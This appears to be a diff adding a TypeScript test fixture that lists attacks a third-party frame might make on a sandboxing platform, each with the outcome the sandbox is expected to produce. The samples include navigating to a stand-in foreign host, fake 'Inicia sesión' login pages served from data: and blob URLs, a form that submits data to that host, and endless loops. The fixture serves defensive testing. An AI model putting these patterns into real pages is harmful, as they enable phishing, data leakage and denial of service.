@@ -1,0 +1,99 @@
+import type { FrameAttack } from './frame-attack';
+
+type Tried = Omit<FrameAttack, 'outcome'>;
+
+const navigates: readonly Tried[] = [
+  {
+    what: 'opens another site in its frame',
+    attempt: async () => {
+      location.href = 'https://ajena.example/?dato=1';
+      return 'passes';
+    },
+  },
+  {
+    what: 'opens the platform in its frame',
+    attempt: async () => {
+      location.href = '/';
+      return 'passes';
+    },
+  },
+  {
+    what: 'opens the frame of another remote in its frame',
+    attempt: async () => {
+      location.href = '/sandbox/catalogue';
+      return 'passes';
+    },
+  },
+  {
+    what: 'opens a page of its own in its frame',
+    attempt: async () => {
+      location.href = 'data:text/html,<h1>Inicia sesión</h1>';
+      return 'passes';
+    },
+  },
+  {
+    what: 'opens a page from memory in its frame',
+    attempt: async () => {
+      const page = new Blob(['<h1>Inicia sesión</h1>'], { type: 'text/html' });
+      location.href = URL.createObjectURL(page);
+      return 'passes';
+    },
+  },
+  {
+    what: 'opens an empty page in its frame',
+    attempt: async () => {
+      location.href = 'about:blank';
+      return 'passes';
+    },
+  },
+  {
+    what: 'sends data away by a form',
+    attempt: async () => {
+      const form = document.createElement('form');
+      form.action = 'https://ajena.example/?dato=1';
+      document.body.append(form);
+      form.submit();
+      return 'passes';
+    },
+  },
+  {
+    what: 'loads its frame again',
+    attempt: async () => {
+      location.reload();
+      return 'passes';
+    },
+  },
+];
+
+const hangs: readonly Tried[] = [
+  {
+    what: 'runs without end',
+    attempt: async () => {
+      for (;;) performance.now();
+    },
+  },
+  {
+    what: 'runs without end in small steps',
+    attempt: async () => {
+      for (;;) await Promise.resolve();
+    },
+  },
+  {
+    what: 'never finishes its mount',
+    isInMount: true,
+    attempt: () => new Promise(() => undefined),
+  },
+];
+
+/** What a third party does with its own frame. */
+export const ownFrameAttacks: readonly FrameAttack[] = [
+  ...[...navigates, ...hangs].map((attack) => ({ ...attack, outcome: 'ended' as const })),
+  {
+    what: 'never finishes its unmount',
+    attempt: async () => {
+      Object.assign(window, { neverUnmounts: true });
+      return 'contained';
+    },
+    outcome: 'contained',
+  },
+];
